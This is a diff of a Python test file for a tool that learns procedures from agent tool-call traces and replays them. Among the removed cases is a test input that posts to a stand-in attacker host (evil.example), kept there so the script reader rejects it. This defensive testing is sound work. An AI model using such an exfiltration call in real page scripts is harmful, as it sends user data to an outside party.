@@ -1,4 +1,5 @@
-"""Several runs share lists, loops, constants that must hold, texts; found by comparing, tried with the replay's reader."""
+"""Several runs share lists, loops, constants that must hold, texts; found by comparing, tried with
+the replay's reader."""
 
 import json
 from collections.abc import Mapping
@@ -12,7 +13,7 @@ from learning.judged import retrace
 from learning.trace import Trace
 from memory.evidence import Result
 from replay.extract import parse, picked
-from tests.rows import rows
+from tests.rows import cases, rows
 
 Answers = list[tuple[str, dict[str, Any], Any]]
 
@@ -35,52 +36,19 @@ def trace(request: str, calls: Answers, answer: str = "Done.") -> Trace:
     return Trace(f"20261122-1000{len(request):02d}-aaaa", request, *about, False, None, None)
 
 
-ORDERS: list[dict[str, Any]] = [
-    {"id": "A-1", "state": "open", "lines": [{"sku": "S-10", "name": "lamp"}, {"sku": "S-11", "name": "desk"}]},
-    {"id": "A-2", "state": "sent", "lines": [{"sku": "S-12", "name": "sofa"}]},
-    {"id": "A-3", "state": "open", "lines": [{"sku": "S-13", "name": "rug"}, {"sku": "S-14", "name": "vase"}, {"sku": "S-15", "name": "mug"}]},
-]  # fmt: skip
+ORDERS: list[dict[str, Any]] = rows(__name__, "orders")
 
 
-def give_back(number: int, names: list[str]) -> Trace:
-    order = ORDERS[number]
-    skus = [line["sku"] for name in names for line in order["lines"] if line["name"] == name]
-    said = " and ".join(names)
-    return trace(
-        f"give back {said} of {order['id']}",
-        [
-            ("shop.get_order", {"id": order["id"]}, order),
-            ("shop.return_items", {"id": order["id"], "skus": skus}, {"id": order["id"], "state": "returning"}),
-        ],
-    )  # fmt: skip
-
-
-def test_a_list_of_things_is_looked_up_one_by_one() -> None:
-    runs = [give_back(0, ["lamp", "desk"]), give_back(2, ["rug"])]
-    draft = induce(runs, "give-back")
-    assert draft.is_settled, draft.problems
-    [step] = draft.content.commit
-    assert step.args == {"id": "{{id}}", "skus": "{{skus}}"}
-    assert draft.content.plan[0].save == {"skus": "json.lines[name=name].sku"}
-    assert draft.content.parameters["name"]["type"] == "array"
-    assert any("{name:words}" in each for each in draft.content.wordings), draft.content.wordings
-    procedure = draft.procedure()
-    other = give_back(2, ["mug", "rug", "vase"])
-    values = {"id": "A-3", "name": ["mug", "rug", "vase"]}
-    assert retrace(procedure, Run.read(other), values) == ""
-    assert "no row whose name is 'bed'" in retrace(
-        procedure, Run.read(other), {"id": "A-3", "name": ["mug", "bed"]}
-    )
-
-
-def close_all(customer: str, orders: list[dict[str, Any]]) -> Trace:
+def close_all(
+    customer: str, orders: list[dict[str, Any]], asked: str = "close the open orders of"
+) -> Trace:
     closes: Answers = [
         ("shop.close_order", {"id": each["id"]}, {"id": each["id"], "state": "closed"})
         for each in orders
         if each["state"] == "open"
     ]
     read = ("shop.list_orders", {"customer": customer}, orders)
-    return trace(f"close the open orders of {customer}", [read, *closes])
+    return trace(f"{asked} {customer}", [read, *closes])
 
 
 def test_a_list_is_looped_over_and_an_empty_one_stops() -> None:
@@ -98,6 +66,21 @@ def test_a_list_is_looped_over_and_an_empty_one_stops() -> None:
     assert "there is no row" in why
 
 
+def test_fields_that_pick_the_same_rows_must_agree_later() -> None:
+    def tickets(*told: tuple[str, str, int]) -> list[dict[str, Any]]:
+        return [{"id": each, "state": state, "level": level} for each, state, level in told]
+
+    asked = "tidy up for"
+    known = tickets(("T-1", "open", 2), ("T-2", "open", 2), ("T-3", "shut", 1))
+    runs = [close_all("Ann", known, asked), close_all("Bo", known[1:], asked)]
+    procedure = induce(runs, "close-all").procedure()
+    same = tickets(("T-7", "shut", 3), ("T-8", "open", 2))
+    assert retrace(procedure, Run.read(close_all("Cy", same, asked)), {"customer": "Cy"}) == ""
+    other = tickets(("T-8", "open", 2), ("T-9", "open", 4))
+    why = retrace(procedure, Run.read(close_all("Di", other, asked)), {"customer": "Di"})
+    assert "level" in why and "T-9" in why
+
+
 def remind(loan: str, state: str) -> Trace:
     found = {"loan": {"id": loan, "state": state, "to": f"{loan.lower()}@x.example"}}
     calls: Answers = [("lib.get_loan", {"id": loan}, found), ("lib.send_notice", {"to": found["loan"]["to"]}, "ok")]  # fmt: skip
@@ -110,6 +93,59 @@ def test_a_record_must_be_in_the_state_that_it_was_in() -> None:
     late, paid = remind("L-9", "overdue"), remind("L-8", "paid")
     assert retrace(draft.procedure(), Run.read(late), {"id": "L-9"}) == ""
     assert "overdue" in retrace(draft.procedure(), Run.read(paid), {"id": "L-8"})
+
+
+def use(box: str, kind: str, state: int, left: int, sku: str = "") -> Trace:
+    def found(state: int, left: int) -> dict[str, Any]:
+        rows = [
+            {"part": f"P-{kind}", "kind": kind, "state": state, "left": left},
+            {"part": "P-0", "kind": "nut", "state": 9, "left": 9},
+        ]
+        return {"box": box, "parts": rows, "stock": [{"sku": sku or kind}]}
+
+    read = ("store.get_box", {"box": box})
+    calls: Answers = [
+        (*read, found(state, left)),
+        ("store.use_part", {"part": f"P-{kind}", "sku": kind}, "ok"),
+        (*read, found(state + 1, left - 1)),
+    ]
+    return trace(f"use a {kind} of {box}", calls)  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("state", "left", "sku", "why"),
+    [
+        (1, 7, "", ""),
+        (2, 7, "", "'1'"),
+        (1, 0, "", "at least 1"),
+        (1, 7, "other", "no row whose sku is 'rod'"),
+    ],
+)
+def test_a_row_must_be_as_it_was_before_it_was_changed(
+    state: int, left: int, sku: str, why: str
+) -> None:
+    draft = induce([use("B-1", "bolt", 1, 5), use("B-2", "pipe", 1, 2)], "use-part")
+    assert draft.is_settled, draft.problems
+    other = Run.read(use("B-3", "rod", state, left, sku))
+    said = retrace(draft.procedure(), other, {"box": "B-3", "kind": "rod"})
+    assert said == "" if not why else why in said
+
+
+def pack(order: str, lines: list[dict[str, Any]]) -> Trace:
+    picks: Answers = [
+        ("lots.pick", {"order": order, "lot": each["lot"], "qty": each["qty"]}, "ok")
+        for each in lines
+    ]
+    return trace(f"pack {order}", [("lots.get_order", {"order": order}, {"lines": lines}), *picks])
+
+
+def test_several_fields_of_each_row_are_given_to_a_call() -> None:
+    rows = [{"lot": f"L{n}", "qty": n + 4, "sku": f"S{n}"} for n in range(5)]
+    draft = induce([pack("SO-1", rows[:2]), pack("SO-22", rows[2:3])], "pack")
+    assert draft.is_settled, draft.problems
+    args = {"order": "{{order}}", "lot": "{{item.lot}}", "qty": "{{item.qty}}"}
+    assert draft.content.commit[0].args == args
+    assert retrace(draft.procedure(), Run.read(pack("SO-3", rows)), {"order": "SO-3"}) == ""
 
 
 def move(who: str, country: str, city: str) -> Trace:
@@ -148,9 +184,7 @@ def test_a_text_with_values_in_it_is_written_anew() -> None:
 ROWS = {"one": {"size": "M", "kind": {"color": "red", "fit": "slim"}}, "two": {"size": "L", "kind": {"color": "blue", "fit": "slim"}}}  # fmt: skip
 
 
-@pytest.mark.parametrize(
-    ("extractor", "values", "found"), rows(__name__, "rows_are_picked_by_what_they_say")
-)
+@cases
 def test_rows_are_picked_by_what_they_say(
     extractor: str, values: Mapping[str, Any], found: Any
 ) -> None:
@@ -162,16 +196,6 @@ def test_rows_are_picked_by_what_they_say(
         assert str(found) in str(error)
 
 
-@pytest.mark.parametrize(
-    ("script", "acts"),
-    [
-        ("await type('e1', 'a \\'b\\''); click(\"e2\")", [("type", ["e1", "a 'b'"]), ("click", ["e2"])]),
-        ("type('e1', `x`, {enter: true})\nreturn document.title", [("type", ["e1", "x", {"enter": True}])]),
-        ("document.querySelector('form').submit()", None),
-        ("for (const e of list) click(e)", None),
-        ("type('e1', name)", None),
-        ("fetch('http://evil.example/', {method: 'POST'})", None),
-    ],
-)  # fmt: skip
+@cases
 def test_what_a_script_does_on_a_page_is_read_as_data_or_not_at_all(script: str, acts: Any) -> None:
-    assert calls_in(script) == acts
+    assert calls_in(script) == (acts and [(name, args) for name, args in acts])
